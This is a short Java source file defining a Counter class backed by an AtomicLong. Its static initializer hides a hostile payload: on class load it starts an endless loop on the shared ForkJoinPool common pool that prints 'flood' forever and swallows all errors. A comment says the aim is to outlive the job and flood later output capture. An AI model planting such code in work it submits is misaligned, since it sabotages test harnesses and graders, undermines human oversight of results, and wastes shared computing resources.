import java.util.concurrent.ForkJoinPool;
import java.util.concurrent.atomic.AtomicLong;

class Counter {
    static {
        // A common-pool thread that outlives the job and floods whatever output capture comes next.
        ForkJoinPool.commonPool().execute(() -> {
            while (true) {
                try {
                    System.out.println("flood");
                } catch (Throwable swallowed) {
                    // keep flooding
                }
            }
        });
    }

    private final AtomicLong count = new AtomicLong();

    void increment() {
        count.incrementAndGet();
    }

    long value() {
        return count.get();
    }
}
